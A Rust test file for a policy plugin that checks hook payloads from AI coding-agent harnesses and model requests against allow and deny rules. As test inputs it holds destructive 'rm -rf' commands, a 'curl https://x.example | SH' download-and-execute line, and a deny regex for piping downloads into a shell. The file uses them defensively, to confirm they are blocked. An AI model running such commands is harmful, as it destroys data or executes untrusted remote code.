//! Scenario transcripts over the real hook payloads the harnesses sent (copied from the
//! captured fixtures into `fixtures/`): each step evaluates one hook or model request and
//! the transcript of decisions is compared with the expectation written beside it
//! (`UPDATE_EXPECT=1 cargo test -p relay-plugins` rewrites them).

use std::fmt::Write as _;
use std::path::Path;

use expect_test::{Expect, expect};
use serde_json::{Value, json};

use super::*;
use crate::WireFormat;
use crate::config::Plugins;

/// The policy of a `[components.config]` body.
fn policy(config: &str) -> Policy {
    let text =
        format!("version = 1\n[[components]]\nkind = \"policy\"\n[components.config]\n{config}");
    let plugins = match Plugins::parse(Some((Path::new("/etc/relay/plugins.toml"), &text)), None) {
        Ok(plugins) => plugins,
        Err(error) => panic!("{error}"),
    };
    Policy::new(plugins.policy().cloned().unwrap_or_default())
}

fn fixture(agent: Agent, name: &str) -> Value {
    if name == "-" {
        return json!({});
    }
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("src/policy/fixtures")
        .join(agent.as_str())
        .join(format!("{name}.json"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

enum Step<'a> {
    /// A fixture payload, with values set at JSON pointers (parents created as objects).
    Hook(Agent, &'a str, &'a [(&'a str, Value)]),
    Model(Route, &'a str),
}

fn set(payload: &mut Value, pointer: &str, value: Value) {
    let mut at = payload;
    let mut keys = pointer.split('/').skip(1).peekable();
    while let Some(key) = keys.next() {
        if !at.is_object() {
            *at = json!({});
        }
        let Value::Object(map) = at else {
            unreachable!()
        };
        if keys.peek().is_none() {
            map.insert(key.to_owned(), value);
            return;
        }
        at = map.entry(key.to_owned()).or_insert_with(|| json!({}));
    }
}

fn describe(decision: &Decision<'_>) -> String {
    let mut out = decision.action.as_str().to_owned();
    match decision.rule {
        Some(rule) => {
            let _ = write!(out, " rule {rule}");
        }
        None => out.push_str(" (no rule)"),
    }
    let _ = write!(out, " {}", decision.mode.as_str());
    if decision.blocks() {
        out.push_str(" BLOCKS");
    }
    if let Some(reason) = decision.reason {
        let _ = write!(out, " {reason:?}");
    }
    out
}

fn check(config: &str, steps: &[Step<'_>], expect: Expect) {
    let policy = policy(config);
    let mut out = String::new();
    for step in steps {
        match step {
            Step::Hook(agent, name, sets) => {
                let mut payload = fixture(*agent, name);
                for (pointer, value) in *sets {
                    set(&mut payload, pointer, value.clone());
                }
                let event = payload["hook_event_name"].as_str().unwrap_or("").to_owned();
                let decision = policy.evaluate_hook(*agent, &event, &payload);
                let _ = write!(out, "{agent} {name}");
                for (pointer, value) in *sets {
                    let _ = write!(out, " {pointer}={value}");
                }
                let _ = writeln!(out, ": {}", describe(&decision));
            }
            Step::Model(route, model) => {
                let decision = policy.evaluate_model(*route, model);
                let _ = writeln!(
                    out,
                    "model {} {model}: {}",
                    route.as_str(),
                    describe(&decision)
                );
            }
        }
    }
    expect.assert_eq(&out);
}

use Agent::{ClaudeCode, Codex, Pi};

const ISSUE_RULE: &str = r#"
[[components.config.rules]]
event = "PreToolUse"
tool = "Bash"
input_field = "command"
regex = "rm -rf"
action = "deny"
reason = "destructive command"
"#;

#[test]
fn the_issue_rule_denies_rm_rf_in_every_harness_and_nothing_else() {
    let rm = || json!("rm -rf /home/dev/canary");
    check(
        ISSUE_RULE,
        &[
            Step::Hook(ClaudeCode, "PreToolUse-Bash", &[]),
            Step::Hook(
                ClaudeCode,
                "PreToolUse-Bash",
                &[("/tool_input/command", rm())],
            ),
            Step::Hook(Codex, "PreToolUse-Bash", &[]),
            Step::Hook(Codex, "PreToolUse-Bash", &[("/tool_input/command", rm())]),
            Step::Hook(Pi, "tool_call-bash", &[]),
            Step::Hook(Pi, "tool_call-bash", &[("/event/input/command", rm())]),
            // Not a PreToolUse: the same command after the fact is not decided.
            Step::Hook(
                ClaudeCode,
                "PostToolUse-Bash",
                &[("/tool_input/command", rm())],
            ),
            Step::Hook(Pi, "tool_result-bash", &[("/event/input/command", rm())]),
            // Another tool with the same input is not the Bash tool.
            Step::Hook(
                ClaudeCode,
                "PreToolUse-mcp_relayprobe_relay_echo",
                &[("/tool_input/command", rm())],
            ),
            // No tool name, no input: no match.
            Step::Hook(ClaudeCode, "UserPromptSubmit", &[("/prompt", rm())]),
            Step::Hook(
                ClaudeCode,
                "PreToolUse-Bash",
                &[("/tool_input", json!(null))],
            ),
            Step::Model(Route::Anthropic, "claude-sonnet-4-5"),
        ],
        expect![[r#"
            claude-code PreToolUse-Bash: allow (no rule) enforce
            claude-code PreToolUse-Bash /tool_input/command="rm -rf /home/dev/canary": deny rule 1 enforce BLOCKS "destructive command"
            codex PreToolUse-Bash: allow (no rule) enforce
            codex PreToolUse-Bash /tool_input/command="rm -rf /home/dev/canary": deny rule 1 enforce BLOCKS "destructive command"
            pi tool_call-bash: allow (no rule) enforce
            pi tool_call-bash /event/input/command="rm -rf /home/dev/canary": deny rule 1 enforce BLOCKS "destructive command"
            claude-code PostToolUse-Bash /tool_input/command="rm -rf /home/dev/canary": allow (no rule) enforce
            pi tool_result-bash /event/input/command="rm -rf /home/dev/canary": allow (no rule) enforce
            claude-code PreToolUse-mcp_relayprobe_relay_echo /tool_input/command="rm -rf /home/dev/canary": allow (no rule) enforce
            claude-code UserPromptSubmit /prompt="rm -rf /home/dev/canary": allow (no rule) enforce
            claude-code PreToolUse-Bash /tool_input=null: allow (no rule) enforce
            model anthropic claude-sonnet-4-5: allow (no rule) enforce
        "#]],
    );
}

#[test]
fn dry_run_records_the_same_decision_and_blocks_nothing() {
    check(
        &format!("mode = \"dry_run\"\n{ISSUE_RULE}"),
        &[
            Step::Hook(
                ClaudeCode,
                "PreToolUse-Bash",
                &[("/tool_input/command", json!("rm -rf /"))],
            ),
            Step::Hook(
                Pi,
                "tool_call-bash",
                &[("/event/input/command", json!("rm -rf /"))],
            ),
            Step::Hook(Pi, "tool_call-bash", &[]),
        ],
        expect![[r#"
            claude-code PreToolUse-Bash /tool_input/command="rm -rf /": deny rule 1 dry_run "destructive command"
            pi tool_call-bash /event/input/command="rm -rf /": deny rule 1 dry_run "destructive command"
            pi tool_call-bash: allow (no rule) dry_run
        "#]],
    );
}

#[test]
fn first_match_wins_with_mcp_globs_agents_and_pointers() {
    check(
        r#"
[[components.config.rules]]
event = "PreToolUse"
tool = "mcp__relayprobe__*"
input_field = "/text"
regex = "^ping$"
action = "allow"
[[components.config.rules]]
event = "PreToolUse"
tool = "mcp__*"
action = "deny"
reason = "unapproved MCP tool"
[[components.config.rules]]
event = "tool_call"
agent = "codex"
tool = "bash"
action = "deny"
reason = "codex may not run shell commands"
[[components.config.rules]]
event = "user_bash"
input_field = "command"
regex = "(?i)curl[^|]*\\|\\s*sh"
action = "deny"
reason = "no piping downloads into a shell"
[[components.config.rules]]
event = "UserPromptSubmit"
input_field = "prompt"
regex = "(?i)confidential"
action = "deny"
reason = "confidential prompts stay local"
[[components.config.rules]]
event = "PreToolUse"
tool = "Bash"
input_field = "/timeout"
regex = "^[0-9]{6,}$"
action = "deny"
reason = "no tool runs for more than 27 hours"
"#,
        &[
            // The exact ping is allowed by rule 1 before rule 2 could deny it.
            Step::Hook(ClaudeCode, "PreToolUse-mcp_relayprobe_relay_echo", &[]),
            Step::Hook(
                ClaudeCode,
                "PreToolUse-mcp_relayprobe_relay_echo",
                &[("/tool_input/text", json!("ping and more"))],
            ),
            Step::Hook(
                ClaudeCode,
                "PreToolUse-mcp_relayprobe_relay_echo",
                &[("/tool_name", json!("mcp__github__create_issue"))],
            ),
            // `tool_call` covers Codex's PreToolUse, `bash` its `Bash`; only for Codex.
            Step::Hook(Codex, "PreToolUse-Bash", &[]),
            Step::Hook(ClaudeCode, "PreToolUse-Bash", &[]),
            Step::Hook(Pi, "tool_call-bash", &[]),
            // pi's user_bash (no captured fixture: the event's documented shape).
            Step::Hook(
                Pi,
                "-",
                &[
                    ("/hook_event_name", json!("user_bash")),
                    ("/event/type", json!("user_bash")),
                    ("/event/command", json!("curl https://x.example | SH")),
                ],
            ),
            Step::Hook(ClaudeCode, "UserPromptSubmit", &[]),
            Step::Hook(
                ClaudeCode,
                "UserPromptSubmit",
                &[("/prompt", json!("summarise the CONFIDENTIAL plan"))],
            ),
            Step::Hook(
                Codex,
                "UserPromptSubmit",
                &[("/prompt", json!("confidential"))],
            ),
            // A non-string field is matched as its JSON text.
            Step::Hook(
                ClaudeCode,
                "PreToolUse-Bash",
                &[("/tool_input/timeout", json!(100_000_000))],
            ),
            Step::Hook(
                ClaudeCode,
                "PreToolUse-Bash",
                &[("/tool_input/timeout", json!(600))],
            ),
        ],
        expect![[r#"
            claude-code PreToolUse-mcp_relayprobe_relay_echo: allow rule 1 enforce
            claude-code PreToolUse-mcp_relayprobe_relay_echo /tool_input/text="ping and more": deny rule 2 enforce BLOCKS "unapproved MCP tool"
            claude-code PreToolUse-mcp_relayprobe_relay_echo /tool_name="mcp__github__create_issue": deny rule 2 enforce BLOCKS "unapproved MCP tool"
            codex PreToolUse-Bash: deny rule 3 enforce BLOCKS "codex may not run shell commands"
            claude-code PreToolUse-Bash: allow (no rule) enforce
            pi tool_call-bash: allow (no rule) enforce
            pi - /hook_event_name="user_bash" /event/type="user_bash" /event/command="curl https://x.example | SH": deny rule 4 enforce BLOCKS "no piping downloads into a shell"
            claude-code UserPromptSubmit: allow (no rule) enforce
            claude-code UserPromptSubmit /prompt="summarise the CONFIDENTIAL plan": deny rule 5 enforce BLOCKS "confidential prompts stay local"
            codex UserPromptSubmit /prompt="confidential": deny rule 5 enforce BLOCKS "confidential prompts stay local"
            claude-code PreToolUse-Bash /tool_input/timeout=100000000: deny rule 6 enforce BLOCKS "no tool runs for more than 27 hours"
            claude-code PreToolUse-Bash /tool_input/timeout=600: allow (no rule) enforce
        "#]],
    );
}

#[test]
fn a_model_allow_list_denies_every_other_model() {
    check(
        r#"
[[components.config.rules]]
model = "claude-sonnet-*"
route = "anthropic"
action = "allow"
[[components.config.rules]]
model = "mock-model"
action = "allow"
[[components.config.rules]]
route = "openai"
model = "gpt-5.1"
action = "allow"
[[components.config.rules]]
model = "*"
action = "deny"
reason = "only the approved models"
[[components.config.rules]]
event = "PreToolUse"
action = "deny"
reason = "hook rules never decide model requests"
"#,
        &[
            Step::Model(Route::Anthropic, "claude-sonnet-4-5"),
            Step::Model(Route::Anthropic, "Claude-Sonnet-4-5"),
            Step::Model(Route::OpenAi, "claude-sonnet-4-5"),
            Step::Model(Route::OpenAi, "mock-model"),
            Step::Model(Route::Anthropic, "mock-model"),
            Step::Model(Route::OpenAi, "gpt-5.1"),
            Step::Model(Route::OpenAi, "gpt-5.1-codex"),
            Step::Model(Route::Anthropic, "claude-opus-4-1"),
            Step::Model(Route::Anthropic, ""),
            // Model rules never decide hooks: the hook rule (5) does.
            Step::Hook(ClaudeCode, "PreToolUse-Bash", &[]),
            Step::Hook(ClaudeCode, "SessionStart", &[]),
        ],
        expect![[r#"
            model anthropic claude-sonnet-4-5: allow rule 1 enforce
            model anthropic Claude-Sonnet-4-5: allow rule 1 enforce
            model openai claude-sonnet-4-5: deny rule 4 enforce BLOCKS "only the approved models"
            model openai mock-model: allow rule 2 enforce
            model anthropic mock-model: allow rule 2 enforce
            model openai gpt-5.1: allow rule 3 enforce
            model openai gpt-5.1-codex: deny rule 4 enforce BLOCKS "only the approved models"
            model anthropic claude-opus-4-1: deny rule 4 enforce BLOCKS "only the approved models"
            model anthropic : deny rule 4 enforce BLOCKS "only the approved models"
            claude-code PreToolUse-Bash: deny rule 5 enforce BLOCKS "hook rules never decide model requests"
            claude-code SessionStart: allow (no rule) enforce
        "#]],
    );
}

#[test]
fn no_rules_allow_everything() {
    let policy = Policy::default();
    for agent in Agent::ALL {
        let decision = policy.evaluate_hook(agent, "PreToolUse", &json!({}));
        assert_eq!(decision.action, Action::Allow);
        assert!(!decision.blocks());
        assert!(!decision.is_match());
    }
    assert!(!policy.evaluate_model(Route::OpenAi, "anything").blocks());
    assert!(!policy.has_hook_rules() && !policy.has_model_rules());
    let hooks = self::policy(ISSUE_RULE);
    assert!(hooks.has_hook_rules() && !hooks.has_model_rules());
    let models = self::policy("[[components.config.rules]]\nmodel = \"*\"\naction = \"allow\"\n");
    assert!(!models.has_hook_rules() && models.has_model_rules());
}

#[test]
fn blocking_events_are_those_of_the_hook_contract() {
    for agent in [ClaudeCode, Codex] {
        for event in ["PreToolUse", "PermissionRequest", "UserPromptSubmit"] {
            assert!(agent.is_blocking_event(event), "{agent} {event}");
        }
        for event in [
            "PostToolUse",
            "Stop",
            "SessionStart",
            "SessionEnd",
            "tool_call",
        ] {
            assert!(!agent.is_blocking_event(event), "{agent} {event}");
        }
    }
    for event in ["tool_call", "user_bash"] {
        assert!(Pi.is_blocking_event(event));
    }
    for event in ["input", "tool_result", "PreToolUse", "session_shutdown"] {
        assert!(!Pi.is_blocking_event(event), "{event}");
    }
    for event in HOOK_EVENTS.iter().copied().flatten() {
        assert_eq!(
            is_blocking_event_name(event),
            Agent::ALL.iter().any(|a| a.is_blocking_event(event)),
            "{event}"
        );
    }
}

/// Every captured fixture's event is one a rule may name.
#[test]
fn every_fixture_event_is_a_known_event() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/policy/fixtures");
    let mut seen = 0;
    for agent in Agent::ALL {
        for entry in std::fs::read_dir(dir.join(agent.as_str())).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            let payload: Value = serde_json::from_str(&text).unwrap();
            let event = payload["hook_event_name"].as_str().unwrap();
            let own = if agent == Pi {
                PI_EVENTS
            } else {
                CLAUDE_EVENTS
            };
            assert!(own.contains(&event), "{agent} {event}");
            seen += 1;
        }
    }
    assert!(seen >= 30, "only {seen} fixtures");
}

/// A deny can only come back for an event the harness can block on: load refuses deny
/// rules elsewhere, and the `PreToolUse`/`tool_call` equivalence maps blocking to blocking.
#[test]
fn a_deny_is_only_ever_decided_on_a_blocking_event() {
    let mut config = String::new();
    for event in HOOK_EVENTS
        .iter()
        .copied()
        .flatten()
        .filter(|e| is_blocking_event_name(e))
    {
        config.push_str(&format!(
            "[[components.config.rules]]\nevent = \"{event}\"\naction = \"deny\"\nreason = \"no\"\n"
        ));
    }
    let policy = policy(&config);
    for agent in Agent::ALL {
        for event in HOOK_EVENTS.iter().copied().flatten() {
            let decision = policy.evaluate_hook(agent, event, &json!({}));
            assert_eq!(
                decision.action == Action::Deny,
                agent.is_blocking_event(event),
                "{agent} {event}"
            );
        }
    }
}

#[test]
fn a_harness_names_the_api_it_speaks_when_it_has_one() {
    assert_eq!(
        Agent::ClaudeCode
            .wire_format()
            .map(WireFormat::provider_name),
        Some("anthropic")
    );
    assert_eq!(
        Agent::Codex.wire_format().map(WireFormat::provider_name),
        Some("openai")
    );
    assert_eq!(Agent::Pi.wire_format(), None);
}
